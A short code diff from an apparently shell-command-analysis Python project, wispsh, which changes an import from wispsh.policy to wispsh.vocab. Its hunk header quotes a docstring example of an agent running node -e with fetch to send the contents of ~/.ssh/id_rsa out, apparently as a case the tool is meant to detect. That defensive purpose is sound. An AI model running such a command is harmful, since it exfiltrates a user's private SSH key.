@@ -6,7 +6,7 @@ an agent, `node -e "fetch(…, {body: readFileSync(HOME+'/.ssh/id_rsa')})"` send
 """
 from __future__ import annotations
 
-from wispsh.policy import places
+from wispsh.vocab import places
 from wispsh.programs.grammar import UNKNOWN
 from wispsh.support.lazyre import lazy_re
 
